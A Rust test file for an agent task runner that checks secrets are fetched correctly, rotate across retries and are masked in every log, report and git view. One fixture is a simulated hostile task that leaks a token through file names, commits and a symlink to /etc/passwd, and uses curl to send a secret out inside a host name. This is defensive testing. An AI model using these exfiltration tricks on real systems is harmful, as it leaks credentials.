//! Secrets that programs of the host print, that change between attempts, and what is told of them.

use super::scene::{Ended, Scene, task};
use crate::ci::github::Runner;

/// A script beside the spec.
fn tool(scene: &Scene, name: &str, script: &str) {
    use std::os::unix::fs::PermissionsExt as _;
    let path = scene.path().join(name);
    std::fs::write(&path, format!("#!/bin/sh\n{script}\n")).expect("a script");
    let mode = std::fs::Permissions::from_mode(0o755);
    std::fs::set_permissions(&path, mode).expect("an executable file");
}

#[test]
fn a_program_of_the_host_prints_a_secret_that_a_task_is_granted() {
    let scene = Scene::new();
    tool(
        &scene,
        "give",
        r#"echo "$1" >> ran; cat; echo "t0ken-of-$2-$(basename "$PWD")""#,
    );
    let spec = scene.spec(
        r#"
version: 1
secrets:
  one: { command: [./give, one, "a b"] }
  two: { command: "./give two 'c d'" }
  other: { command: [./give, other, x] }
  unused: { command: [./give, unused, x] }
tasks:
  granted:
    secrets: [one, { source: two, environment: TWO }]
    mem_limit: 64m
    run: |
      cat /run/secrets/one > one; printf %s "$TWO" > two
      cat one; echo; sed 's/./&-/g' one
  other: { run: "true", secrets: [other] }
"#,
    );
    let spec = spec.to_str().expect("a path");
    let elsewhere = scene.path().join("elsewhere");
    std::fs::create_dir(&elsewhere).expect("a directory");
    let ran = || std::fs::read_to_string(scene.path().join("ran")).unwrap_or_default();
    for words in [
        &["plan", spec][..],
        &["plan", spec, "--format", "json"],
        &["run", "-n", spec],
        &["validate", spec],
        &["config", spec],
    ] {
        let ended = scene.agent_run(words);
        assert_eq!(ended.code, Some(0), "{ended}");
        assert_eq!(ran(), "", "{words:?}");
    }
    let plan = scene.agent_run(&["plan", spec, "granted"]).stdout;
    let told = "on the host ./give one 'a b', for the secret one\n";
    assert!(
        plan.contains(told) && !plan.contains("for the secret other"),
        "{plan}"
    );

    let mut command = scene.command(&["run", spec, "granted"]);
    let ended: Ended = command
        .current_dir(&elsewhere)
        .output()
        .expect("agent-run")
        .into();
    assert_eq!(ended.code, Some(0), "{ended}");
    assert_eq!(
        ran(),
        "one\ntwo\n",
        "only what is granted to what was selected"
    );
    assert!(ended.stderr.contains("granted | ***\n"), "{ended}");
    assert!(!ended.stderr.contains("t0ken-of"), "{ended}");
    let result = scene.checked_result(&ended);
    let branch = task(&result, "granted")["branch"]["branch"]
        .as_str()
        .expect("a branch");
    let place = scene.path().canonicalize().expect("a path");
    let place = place.file_name().expect("a name").to_str().expect("UTF-8");
    for (name, what) in [("one", "a b"), ("two", "c d")] {
        let file = scene.git(&["show", &format!("{branch}:{name}")]);
        assert_eq!(file, format!("t0ken-of-{what}-{place}"), "{name}");
    }
}

#[test]
fn a_program_that_gives_no_secret_is_told_before_anything_starts() {
    let scene = Scene::new();
    for (script, told) in [
        (
            "echo t0ken-value; echo noise >&2; echo 'log in first, not with t0ken-value' >&2; exit 4",
            "secret it cannot be had\n  caused by: `./give` failed (exit code 4): log in first, not with ***\n",
        ),
        (
            "kill -9 $$",
            "secret it cannot be had\n  caused by: `./give` failed (signal 9)",
        ),
        (
            "true",
            "secret it cannot be had\n  caused by: `./give` printed nothing\n",
        ),
        (
            "printf '\\n \\n'",
            "secret it cannot be had\n  caused by: `./give` printed nothing\n",
        ),
        (
            "printf 't0ken-value\\377'",
            "secret it cannot be had\n  caused by: `./give` gave an answer that agent-run does not understand\n",
        ),
        (
            "head -c 1048577 /dev/zero | tr '\\0' x",
            "secret it cannot be had\n  caused by: `./give` printed more than 1048576 bytes\n",
        ),
    ] {
        tool(&scene, "give", script);
        let spec = scene.spec(
            "version: 1\nsecrets: { it: { command: ./give } }\n\
             tasks: { a: { run: x, mem_limit: 64m, secrets: [it] } }\n",
        );
        let ended = scene.agent_run(&["run", spec.to_str().expect("a path")]);
        assert_eq!(ended.code, Some(96), "{script}: {ended}");
        assert!(ended.stderr.contains(told), "{script}: {ended}");
        assert!(
            ended.stderr.contains("says where each value comes from"),
            "{ended}"
        );
        assert!(!ended.stderr.contains("t0ken"), "{script}: {ended}");
        assert_eq!(scene.runs(), Vec::<String>::new(), "{script}");
    }
    std::fs::remove_file(scene.path().join("give")).expect("a file");
    let spec = scene.path().join("spec.yaml");
    let spec = spec.to_str().expect("a path");
    let absent = scene.agent_run(&["run", spec]);
    assert_eq!(absent.code, Some(96), "{absent}");
    let told = "secret it cannot be had\n  caused by: could not start `./give`\n  caused by: there is no such program\n";
    assert!(absent.stderr.contains(told), "{absent}");
    let plan = scene.agent_run(&["plan", spec]);
    assert_eq!(plan.code, Some(0), "{plan}");
    let told = "warning: secret it: there is no program ./give\n";
    assert!(plan.stdout.contains(told), "{plan}");
}

/// Each time it is asked, the tool gives another token; `ask` is what the spec's secret is.
fn rotating(ask: &str, run: &str, more: &str) -> String {
    format!(
        "version: 1\nsecrets: {{ token: {ask} }}\ntasks:\n  a:\n    mem_limit: 64m\n    \
         secrets: [token]\n    retry: {{ max: 2 }}\n{more}    run: |\n      {run}\n"
    )
}

const COUNT: &str = "echo x >> count; echo rotated-value-$(wc -l < count)";

/// Whether the newest run shows it anywhere.
fn is_shown(scene: &Scene, ended: &Ended, value: &str) -> bool {
    let run = scene
        .state()
        .join("runs")
        .join(scene.runs().pop().expect("a run"));
    let has = |file: std::path::PathBuf| {
        let bytes = std::fs::read(&file).expect("a file");
        String::from_utf8_lossy(&bytes).contains(value)
    };
    let logs = std::fs::read_dir(run.join("logs")).expect("logs");
    let mut files: Vec<_> = logs.map(|entry| entry.expect("a log").path()).collect();
    files.extend(["journal", "result.json", "plan.json"].map(|name| run.join(name)));
    ended.stdout.contains(value) || ended.stderr.contains(value) || files.into_iter().any(has)
}

const UNTIL_THE_SECOND: &str =
    "cat /run/secrets/token; cat /run/secrets/token > token; grep -q 2 token";

#[test]
fn a_further_attempt_has_what_a_program_prints_then() {
    let scene = Scene::new();
    tool(&scene, "give", COUNT);
    let (ended, _) = scene.run(&rotating("{ command: ./give }", UNTIL_THE_SECOND, ""));
    assert_that_the_second_was_used(&scene, &ended);
}

#[test]
fn a_further_attempt_has_what_a_file_holds_then() {
    let scene = Scene::new();
    // A pipe: each value is read once.
    let file = scene.path().join("token.txt");
    let made = std::process::Command::new("mkfifo").arg(&file).status();
    assert!(made.expect("mkfifo").success());
    let spec = scene.spec(&rotating("{ file: token.txt }", UNTIL_THE_SECOND, ""));
    let mut command = scene.command(&["run", spec.to_str().expect("a path")]);
    command.stdout(std::process::Stdio::piped());
    let child = command.stderr(std::process::Stdio::piped()).spawn();
    let mut child = child.expect("agent-run");
    std::fs::write(&file, "rotated-value-1").expect("a reader");
    let is_there = || {
        let run = scene.state().join("runs").join(scene.runs().pop()?);
        Some(run.join("logs/a.1.log").exists())
    };
    while is_there() != Some(true) {
        assert!(child.try_wait().expect("a child").is_none(), "it has ended");
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    std::fs::write(&file, "rotated-value-2").expect("a reader");
    let ended: Ended = child.wait_with_output().expect("agent-run").into();
    assert_that_the_second_was_used(&scene, &ended);
}

fn assert_that_the_second_was_used(scene: &Scene, ended: &Ended) {
    assert_eq!(ended.code, Some(0), "{ended}");
    let result = scene.checked_result(ended);
    let report = task(&result, "a");
    assert_eq!(report["attempt"], 2, "{report:#}");
    let branch = report["branch"]["branch"].as_str().expect("a branch");
    let held = scene.git(&["show", &format!("{branch}:token")]);
    assert_eq!(held.trim_end(), "rotated-value-2");
    assert!(!is_shown(scene, ended, "rotated-value"), "{ended}");
}

#[test]
fn a_value_that_cannot_be_read_again_ends_the_attempt_before_it_begins() {
    let scene = Scene::new();
    // It works for the first attempt, fails for the second, and works for the third.
    tool(
        &scene,
        "give",
        "echo x >> count; echo rotated-value-$(wc -l < count); test $(wc -l < count) != 2 || \
         { echo no longer logged in with rotated-value-1 >&2; exit 7; }",
    );
    let run = "cat /run/secrets/token; grep -q 3 /run/secrets/token";
    let (ended, result) = scene.run(&rotating("{ command: ./give }", run, ""));
    assert_eq!(ended.code, Some(0), "{ended}");
    let report = task(&result, "a");
    assert_eq!(report["attempt"], 3, "{report:#}");
    let second = &report["earlier_attempts"][1];
    assert_eq!(second["outcome"]["outcome"], "infra", "{second:#}");
    assert_eq!(second["outcome"]["stage"], "secrets", "{second:#}");
    let message = second["outcome"]["message"].as_str().expect("a message");
    assert_eq!(
        message,
        "secret token cannot be had: `./give` failed (exit code 7): no longer logged in with ***"
    );
    assert!(second["branch"].is_null(), "{second:#}");
    assert!(!is_shown(&scene, &ended, "rotated-value"), "{ended}");

    // Where it is not tried again, that is how the task ends.
    std::fs::remove_file(scene.path().join("count")).expect("a file");
    let run = "echo work > work; false";
    let more = "    retry: { max: 3, when: exit_code }\n";
    let spec = rotating("{ command: ./give }", run, more).replace("    retry: { max: 2 }\n", "");
    let (ended, result) = scene.run(&spec);
    assert_eq!(ended.code, Some(100), "{ended}");
    let report = task(&result, "a");
    assert_eq!(report["outcome"]["stage"], "secrets", "{report:#}");
    assert_eq!(report["attempt"], 2, "{report:#}");
}

#[test]
fn a_run_that_stops_does_not_wait_for_a_program() {
    let scene = Scene::new();
    tool(
        &scene,
        "give",
        "echo rotated-value; test ! -e again || { echo $$ > asked; exec sleep 1000; }; touch again",
    );
    let spec = scene.spec(&rotating("{ command: ./give }", "false", ""));
    let mut command = scene.command(&["run", spec.to_str().expect("a path")]);
    let mut child = command
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("agent-run");
    let asked = scene.path().join("asked");
    while !asked.exists() {
        assert!(child.try_wait().expect("a child").is_none(), "it has ended");
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    let id = rustix::process::Pid::from_child(&child);
    rustix::process::kill_process(id, rustix::process::Signal::INT).expect("a signal");
    let ended: Ended = child.wait_with_output().expect("agent-run").into();
    assert_eq!(ended.code, Some(130), "{ended}");
    let report = scene.checked_result(&ended);
    assert_eq!(
        task(&report, "a")["outcome"]["outcome"],
        "cancelled",
        "{report:#}"
    );
    let program = std::fs::read_to_string(asked).expect("an id");
    let program = program
        .trim()
        .parse()
        .ok()
        .and_then(rustix::process::Pid::from_raw);
    let program = program.expect("an id");
    // It was not waited for: it is there still.
    rustix::process::kill_process(program, rustix::process::Signal::KILL).expect("a process");
}

#[test]
fn github_masks_what_is_read_again_whatever_it_shows_just_then() {
    for output in ["prefixed", "group", "none"] {
        let scene = Scene::new();
        tool(&scene, "give", COUNT);
        let run = "echo '::error::stop'; cat /run/secrets/token; grep -q 3 /run/secrets/token";
        let spec = scene.spec(&rotating("{ command: ./give }", run, ""));
        let words = ["run", spec.to_str().expect("a path"), "--output", output];
        let ended = scene.command(&words).env("GITHUB_ACTIONS", "true").output();
        let ended: Ended = ended.expect("agent-run").into();
        assert_eq!(ended.code, Some(0), "{ended}");
        let mut runner = Runner::default();
        runner.read(&ended.stderr);
        let masks = runner.all("add-mask").into_iter();
        let masks: Vec<&str> = masks.map(|command| command.data.as_str()).collect();
        assert_eq!(
            masks,
            ["rotated-value-1", "rotated-value-2", "rotated-value-3"],
            "{ended}"
        );
        let shown = runner.log.iter().any(|line| line.contains("rotated-value"));
        assert!(!shown && !runner.is_stopped(), "{ended}");
    }
}

/// All that a run leaves for people and programs to read, by name; objects of git are the task's work.
fn everything_told(scene: &Scene, ended: &Ended) -> Vec<(String, String)> {
    let mut told = vec![
        ("standard output".to_owned(), ended.stdout.clone()),
        ("standard error".to_owned(), ended.stderr.clone()),
    ];
    let run = scene
        .state()
        .join("runs")
        .join(scene.runs().pop().expect("a run"));
    let mut pending = vec![run, scene.path().join("told")];
    while let Some(path) = pending.pop() {
        let name = path.display().to_string();
        if path.is_dir() {
            // The work itself is what the task made it.
            let is_work = path.ends_with("artifacts") || path.ends_with("tasks");
            if !is_work {
                let entries = std::fs::read_dir(&path).expect("a directory");
                pending.extend(entries.map(|entry| entry.expect("an entry").path()));
            }
        } else if path.is_file() {
            let bytes = std::fs::read(&path).expect("a file");
            told.push((name, String::from_utf8_lossy(&bytes).into_owned()));
        }
    }
    for words in [
        &["show", "thief"][..],
        &["show", "thief", "--format", "json"],
        &["logs", "thief"],
        &["logs", "thief", "--raw"],
        &["ps", "--all"],
        &["ps", "--all", "--format", "json"],
    ] {
        let output = scene.command(words).current_dir(scene.repo()).output();
        let ended: Ended = output.expect("agent-run").into();
        assert_eq!(ended.code, Some(0), "{words:?}: {ended}");
        told.push((words.join(" "), ended.stdout + &ended.stderr));
    }
    told
}

const TOKEN: &str = "t0ken-0f+great.worth";
const CHECK: &str = "another-t0ken-0f-worth";

/// Tasks that print a secret and write it into whatever they can name.
const THIEF: &str = r#"
version: 1
secrets:
  token: { environment: TOKEN }
  check: { environment: CHECK }
tasks:
  thief:
    secrets: [token]
    mem_limit: 128m
    artifacts: [ 'art-*' ]
    touches: src
    egress: { allow: [] }
    verify:
      run: |
        cat /run/secrets/check; ls; git log --all
        curl -s "http://$(cat /run/secrets/check).test/" -o /dev/null
      secrets: [check]
    run: |
      token="$(cat /run/secrets/token)"
      # Byte by byte, each on its own, on both streams.
      i=1
      while [ $i -le ${#token} ]; do
        printf %s "$token" | cut -c$i | tr -d '\n'
        sleep 0.02
        i=$((i + 1))
      done
      echo
      for c in $(printf %s "$token" | sed 's/./& /g'); do printf %s "$c" >&2; sleep 0.02; done
      echo >&2
      # By a child that goes on after its parent's death, in a session of its own.
      sh -c "setsid sh -c 'sleep 0.5; echo child $token; echo done > /tmp/done' &"
      while [ ! -e /tmp/done ]; do sleep 0.05; done
      # In names: of files, links, directories, branches, artifacts, and in messages and authors.
      echo x > "file-$token.txt"
      mkdir "dir-$token"; echo x > "dir-$token/.envrc"
      ln -s /etc/passwd "link-$token"
      echo "$token" > held.txt
      echo x > "art-$token.txt"; mkfifo "art-pipe-$token"
      git init -q "nested-$token"
      git -C "nested-$token" commit -q --allow-empty -m "$token"
      git add -A 2>/dev/null || true
      git commit -qm "subject $token"
      git commit -q --allow-empty -m harmless --author "$token <$token@example.org>"
      git switch -qc "branch-$token"
      git commit -q --allow-empty -m "side $token"
      git tag "tag-$token"
      git switch -q -
      echo left > "left-$token"
      exit ${EXIT:-0}
  fails:
    secrets: [token]
    mem_limit: 64m
    run: |
      token="$(cat /run/secrets/token)"
      echo x > "file-$token.txt"
      git checkout -q --orphan "orphan-$token"
      git commit -qm "$token" 2>&1 || true
      echo "last words: $token" >&2
      exit 3
"#;

#[test]
fn a_secret_is_told_nowhere_whatever_an_agent_writes_it_into() {
    let scene = Scene::new();
    std::fs::create_dir(scene.path().join("told")).expect("a directory");
    let spec = scene.spec(THIEF);
    let place = |name: &str| scene.path().join("told").join(name).display().to_string();
    let (events, junit, summary) = (place("events"), place("junit.xml"), place("summary.md"));
    let spec = spec.to_str().expect("a path");
    let words = [
        "run",
        spec,
        "--output",
        "prefixed",
        "--events",
        &events,
        "--junit",
        &junit,
        "--summary",
        &summary,
    ];
    let mut command = scene.command(&words);
    let output = command.env("TOKEN", TOKEN).env("CHECK", CHECK).output();
    let ended: Ended = output.expect("agent-run").into();
    assert_eq!(ended.code, Some(100), "{ended}");
    let result = scene.checked_result(&ended);
    let report = task(&result, "thief");
    assert_eq!(report["outcome"]["outcome"], "succeeded", "{report:#}");
    for (name, text) in everything_told(&scene, &ended) {
        for value in [TOKEN, CHECK] {
            if let Some(at) = text.find(value) {
                let around: String = text[..at].chars().rev().take(200).collect();
                let around: String = around.chars().rev().collect();
                panic!("{name} has it behind …{around}");
            }
        }
    }

    assert_that_it_is_told_what_there_is(&scene, report);
    assert_eq!(result["egress"][0]["hosts"][0]["host"], "***.test");
    let summary = std::fs::read_to_string(summary).expect("a summary");
    assert!(summary.contains("Granted secrets: "), "{summary}");
}

/// Without the values.
fn assert_that_it_is_told_what_there_is(scene: &Scene, report: &serde_json::Value) {
    assert_eq!(report["secrets"], serde_json::json!(["check", "token"]));
    let branch = &report["branch"];
    let text = branch.to_string();
    for words in [
        "file-***.txt\",\"has the value of a secret in its name",
        "held.txt\",\"holds the value of a secret",
        "dir-***/.envrc",
        "link-***\",\"is a symbolic link out of the repository",
        "branch-***",
        "in their message or author",
    ] {
        assert!(text.contains(words), "no {words} in {branch:#}");
    }
    let artifacts = report["artifacts"].to_string();
    assert!(
        artifacts.contains("art-***.txt") && artifacts.contains("art-pipe-***"),
        "{artifacts}"
    );
    let shown = scene
        .command(&["show", "thief"])
        .current_dir(scene.repo())
        .output();
    let shown = Ended::from(shown.expect("agent-run")).stdout;
    assert!(
        shown.contains("check, token\n") && shown.contains(" ***\n"),
        "{shown}"
    );
    let log = scene
        .command(&["log", "thief"])
        .current_dir(scene.repo())
        .output();
    let log = Ended::from(log.expect("agent-run")).stdout;
    assert!(
        log.contains("Author: ***\n") && log.contains("    ***\n"),
        "{log}"
    );
    assert!(!log.contains(TOKEN), "{log}");
    for format in ["mbox", "bundle"] {
        let export = scene
            .command(&["export", "thief", "--format", format])
            .current_dir(scene.repo())
            .output();
        let export = Ended::from(export.expect("agent-run"));
        assert_eq!(export.code, Some(96), "{export}");
        assert!(export.stderr.contains("the value of a secret"), "{export}");
    }
    // And the work is the task's, as it made it.
    let branch = branch["branch"].as_str().expect("a branch");
    let names = scene.git(&["ls-tree", "-r", "--name-only", branch]);
    assert!(names.contains(&format!("file-{TOKEN}.txt")), "{names}");
}
